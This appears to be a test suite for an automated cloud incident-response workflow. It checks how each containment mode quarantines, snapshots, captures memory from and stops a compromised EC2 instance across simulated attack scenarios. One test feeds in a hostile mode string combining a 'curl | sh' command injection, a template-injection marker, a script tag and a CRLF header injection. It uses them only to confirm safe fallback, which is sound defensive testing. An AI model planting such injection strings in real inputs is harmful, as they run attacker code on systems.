/** Every mode in every scenario: the verdict, the order of steps, what really happened, and the budgets. */

import { LAWS } from '../../prove/laws/laws';
import { timeOf } from '../../range/kernel/iso';
import { callsTo, entered, entry, groupsOf, type Mode, ownGroups, type Played, play, resultOf } from './play';

interface Expectation {
  readonly scenario: string;
  readonly mode: Mode;
  readonly evidence: 'complete' | 'incomplete';
  readonly memory: 'complete' | 'missing' | 'not promised';
  readonly ends: 'stopped' | 'running';
  /** Why the mode's own stop did not happen. */
  readonly notStopped?: RegExp;
}

const GATE = /the stop gate is closed: no memory \(.*does not manage the subject/;
const STORE = /a stop would erase \d+ GB of instance-store volumes/;

const EXPECTED: readonly Expectation[] = [
  {
    scenario: 'web-server-c2',
    mode: 'offline',
    evidence: 'complete',
    memory: 'not promised',
    ends: 'stopped',
  },
  { scenario: 'web-server-c2', mode: 'online', evidence: 'complete', memory: 'complete', ends: 'running' },
  {
    scenario: 'web-server-c2',
    mode: 'capture-then-stop',
    evidence: 'complete',
    memory: 'complete',
    ends: 'stopped',
  },
  {
    scenario: 'tagged-by-analyst',
    mode: 'offline',
    evidence: 'complete',
    memory: 'not promised',
    ends: 'stopped',
  },
  {
    scenario: 'tagged-by-analyst',
    mode: 'online',
    evidence: 'complete',
    memory: 'complete',
    ends: 'running',
  },
  {
    scenario: 'tagged-by-analyst',
    mode: 'capture-then-stop',
    evidence: 'complete',
    memory: 'complete',
    ends: 'stopped',
  },
  { scenario: 'no-agent', mode: 'offline', evidence: 'complete', memory: 'not promised', ends: 'stopped' },
  { scenario: 'no-agent', mode: 'online', evidence: 'incomplete', memory: 'missing', ends: 'running' },
  {
    scenario: 'no-agent',
    mode: 'capture-then-stop',
    evidence: 'incomplete',
    memory: 'missing',
    ends: 'running',
    notStopped: GATE,
  },
  {
    scenario: 'spot-with-instance-store',
    mode: 'offline',
    evidence: 'complete',
    memory: 'not promised',
    ends: 'running',
    notStopped: STORE,
  },
  {
    scenario: 'spot-with-instance-store',
    mode: 'online',
    evidence: 'complete',
    memory: 'complete',
    ends: 'running',
  },
  {
    scenario: 'spot-with-instance-store',
    mode: 'capture-then-stop',
    evidence: 'complete',
    memory: 'complete',
    ends: 'running',
    notStopped: STORE,
  },
  // Each of these has something that one layer alone would leave open; its own mode is enough.
  { scenario: 'reverse-shell', mode: 'online', evidence: 'complete', memory: 'complete', ends: 'running' },
  {
    scenario: 'reverse-shell-ipv6',
    mode: 'online',
    evidence: 'complete',
    memory: 'complete',
    ends: 'running',
  },
  { scenario: 'c2-through-nat', mode: 'online', evidence: 'complete', memory: 'complete', ends: 'running' },
  {
    scenario: 'dns-tunnel',
    mode: 'capture-then-stop',
    evidence: 'complete',
    memory: 'complete',
    ends: 'stopped',
  },
  {
    scenario: 'stolen-credentials',
    mode: 'online',
    evidence: 'complete',
    memory: 'complete',
    ends: 'running',
  },
  { scenario: 'impatient-group', mode: 'online', evidence: 'complete', memory: 'complete', ends: 'running' },
  {
    scenario: 'nlb-ip-target',
    mode: 'capture-then-stop',
    evidence: 'complete',
    memory: 'complete',
    ends: 'stopped',
  },
];

/** What is used from elsewhere goes on until the deny on the role has spread. */
const CREDENTIALS_SPREAD_MS = 10_000;

/** Positions of the milestones of a case in the order in which its calls took effect. */
interface Milestones {
  readonly beforeState: number;
  readonly protect: number[];
  readonly leave: number[];
  readonly quarantine: number[];
  readonly open: number[];
  readonly stop: number[];
  readonly snapshots: number[];
  readonly capture: number[];
  readonly image: number[];
  readonly triage: number[];
  readonly volumes: number[];
  readonly tag: number[];
  readonly manifest: number;
  readonly notice: number;
}

function milestonesOf(played: Played): Milestones {
  const { calls } = played;
  const where = (
    name: string,
    matches: (input: Record<string, unknown>, caller: string) => boolean = () => true,
  ) =>
    calls.flatMap((call, at) =>
      `${call.service}:${call.operation}` === name &&
      call.error === undefined &&
      matches({ ...(call.input as object) }, call.caller)
        ? [at]
        : [],
    );
  const intoGroup = (kind: 'quarantine' | 'evidence-channel') =>
    where('ec2:ModifyNetworkInterfaceAttribute', ({ Groups }) =>
      ownGroups(played, kind).includes(String(Groups)),
    );
  const commanded = (comment: RegExp) =>
    where('ssm:SendCommand', ({ Comment }) => comment.test(String(Comment)));
  const stored = (name: string) =>
    where('s3:PutObject', ({ Key }) => String(Key).endsWith(name))[0] ?? Number.NaN;
  return {
    beforeState: stored('/before-state/instance.json'),
    protect: where('ec2:ModifyInstanceAttribute', (_, caller) => caller === 'ProtectFunction'),
    leave: ['autoscaling:DetachInstances', 'elbv2:DeregisterTargets'].flatMap((name) => where(name)),
    quarantine: intoGroup('quarantine'),
    open: intoGroup('evidence-channel'),
    stop: where('ec2:StopInstances'),
    snapshots: where('ec2:CreateSnapshots'),
    capture: commanded(/memory capture/),
    image: where('s3:CompleteMultipartUpload', ({ Key }) => String(Key).endsWith('/image.lime')),
    triage: commanded(/live triage/),
    volumes: commanded(/instance-store volume/),
    tag: where('ec2:CreateTags', (_, caller) => caller === 'TagFunction'),
    manifest: stored('/manifest.json'),
    notice: where('sns:Publish')[0] ?? Number.NaN,
  };
}

/** Every group of positions lies wholly before the next one; groups that are empty are left out. */
function expectInOrder(...groups: readonly (readonly number[])[]): void {
  const standing = groups.filter((group) => group.length > 0);
  expect(standing.flatMap((group) => group.toSorted((a, b) => a - b))).toEqual(
    standing.flat().toSorted((a, b) => a - b),
  );
}

const atMs = (played: Played, state: string): number =>
  timeOf(entry(played, state).timestamp?.toISOString() ?? '');

describe.each(EXPECTED)('$scenario, $mode', ({ scenario, mode, evidence, memory, ends, notStopped }) => {
  let played: Played;
  let at: Milestones;
  const stops = mode !== 'online' && notStopped === undefined;
  const captures = mode !== 'offline' && memory === 'complete';

  beforeAll(async () => {
    // The disks of the Spot instance are too large to image: what follows from that is what is seen here.
    played = await play({ scenario, mode, smallHosts: scenario !== 'spot-with-instance-store' });
    at = milestonesOf(played);
  });

  test('ends in the right verdict', () => {
    const { verdict, execution, alarms } = played;
    const items = Object.fromEntries(verdict.evidenceItems.map(({ what, status }) => [what, status]));
    expect(execution.status).toBe('SUCCEEDED');
    expect(played.mode.name).toBe(mode);
    expect(verdict).toMatchObject({ containment: 'contained', evidence });
    expect(items).toEqual({
      'before-state': 'complete',
      snapshots: 'complete',
      memory,
      context: 'complete',
    });
    expect(alarms).toEqual([]);
  });

  test('leaves the subject as the mode says, in the quarantine group on every interface', () => {
    expect(played.staged.subject.state).toBe(ends);
    for (const groups of groupsOf(played)) expect(groups).toEqual(ownGroups(played, 'quarantine'));
  });

  test('takes its steps in the order of the design', () => {
    const { beforeState, protect, leave, quarantine, open, stop, snapshots, tag } = at;
    // In the order of volatility, each once what came before it has ended.
    const given = [at.capture, at.image, at.triage, at.volumes];
    const prepared = [...protect, ...leave];
    const [first, last] = [quarantine.slice(0, open.length || undefined), quarantine.slice(open.length)];
    if (mode === 'offline') expectInOrder([beforeState], prepared, stop, quarantine, snapshots, tag);
    else {
      expectInOrder([beforeState], [...first, ...prepared], snapshots, tag);
      expectInOrder(first, open, ...given, captures ? last : [], stop, tag);
    }
    expectInOrder(tag, [at.manifest], [at.notice]);
    expect(at.snapshots).toHaveLength(1);
    expect(at.stop).toHaveLength(stops ? 1 : 0);
    expect(at.capture).toHaveLength(captures ? 1 : 0);
    expect(at.triage).toHaveLength(captures ? 1 : 0);
  });

  test('starts side by side what need not wait', () => {
    const [isolate, ...others] = ['Isolate', 'Sever', 'Protect', 'Detach', 'RestrictCredentials'].map(
      (state) => atMs(played, state),
    );
    expect(new Set(others)).toEqual(new Set([isolate]));
    expect(atMs(played, 'Snapshot')).toBe(atMs(played, 'ProbeMemory'));
  });

  test('stops only what may be stopped, skipping the guest, and says why when it does not', () => {
    for (const { input } of callsTo(played, 'ec2:StopInstances'))
      expect(input).toMatchObject({ InstanceIds: [played.subject], SkipOsShutdown: true });
    if (stops && mode === 'offline') expect(stateAt(played, at.quarantine[0] ?? Number.NaN)).toBe('stopped');
    if (notStopped === undefined) return;
    expect(resultOf(played, 'power')).toMatchObject({
      status: 'skipped',
      why: expect.stringMatching(notStopped),
    });
    expect(played.notices.map(({ message }) => message).join('\n')).toMatch(notStopped);
  });

  test('opens the evidence channel for the capture only', () => {
    const { quarantine, open } = at;
    const interfaces = played.staged.subject.eniIds.length;
    expect(open).toHaveLength(captures ? interfaces : 0);
    expect(quarantine).toHaveLength(captures ? 2 * interfaces : interfaces);
    if (captures) expect(entered(played)).toEqual(expect.arrayContaining(['OpenChannel', 'CloseChannel']));
  });

  test('keeps what it promised, and gives the intruder nothing to notice', () => {
    const { score, verdict } = played;
    const { cutAfterMs: cut = Number.NaN, lastByteAfterMs: last = 0 } = score;
    expect(score.evidence.map(({ kept }) => kept)).toEqual([captures, true]);
    expect(score.intruderNoticed).toBeUndefined();
    const byNetwork = ['quarantine group', 'network ACL'];
    expect(mode === 'offline' && stops ? ['stopping'] : byNetwork).toContain(score.cutBy);
    // Connections that no finding names outlive the cut until the power goes: while it has not, the verdict has to say so.
    const paths = verdict.residual.map(({ path }) => path);
    if (ends === 'running') expect(paths).toContain('open-connections');
    else expect(paths).toEqual([]);
    if (mode === 'offline' && stops) expect(last - cut).toBeLessThanOrEqual(CREDENTIALS_SPREAD_MS);
  });

  test('keeps the budgets', () => {
    const { cutAfterMs = Number.NaN, eventAfterMs, transitions, calls, cutBy } = played.score;
    expect(transitions.total).toBeLessThanOrEqual(30);
    // They are of findings: a tag waits for CloudTrail to say who set it.
    if (scenario === 'tagged-by-analyst') return;
    expect(cutAfterMs - eventAfterMs).toBeLessThanOrEqual(mode === 'offline' ? 10_000 : 5_000);
    // Where the stop is refused, the group takes its place two states later.
    expect(transitions.toCut).toBeLessThanOrEqual(mode === 'offline' && !stops ? 6 : 4);
    // The group has to be made in these drills; each interface after the first is one call more. A stop, and a group in
    // the place of a refused stop, wait for more: that is measured by the bench.
    const interfaces = played.staged.subject.eniIds.length;
    if (mode !== 'offline') expect(['quarantine group', 'network ACL']).toContain(cutBy);
    if (mode !== 'offline') expect(calls.toCut).toBeLessThanOrEqual(8 + interfaces - 1);
  });

  test.each(LAWS)('$name', ({ breaches }) => {
    expect(breaches(played)).toEqual([]);
  });
});

/** The subject's state when the call at `position` took effect. */
function stateAt({ events, calls, subject }: Played, position: number): string | undefined {
  const { at: time = 0 } = calls[position] ?? {};
  const said = events.filter(
    ({ at, kind, text }) => kind === 'world' && at <= time && text.startsWith(`${subject} is `),
  );
  return said.at(-1)?.text.split(' ').at(-1);
}

describe('a mode that is not supported', () => {
  const MARK = 'mark7f3a';
  const HOSTILE = `"; curl ${MARK} | sh #{% $states %} \${Isolate} <script>${MARK}</script>\r\nX-${MARK}: 1`;

  test.each([
    ['a typing mistake', 'hibernat'],
    ['a word that is no mode', 'automatic'],
    ['a hostile string', HOSTILE],
  ])('%s: the subject is contained, kept online, and that is said', async (_, tag) => {
    const played = await play({ scenario: 'no-agent', mode: tag });
    expect(played.verdict.containment).toBe('contained');
    expect(played.mode).toMatchObject({
      name: 'online',
      reason: expect.stringContaining('contained and kept online'),
    });
    expect(played.staged.subject.state).toBe('running');
    expect(callsTo(played, 'ec2:StopInstances')).toEqual([]);
    expect(played.notices[0]?.message).toContain(JSON.stringify(tag));
    expect(LAWS.flatMap(({ breaches }) => breaches(played))).toEqual([]);
  });
});
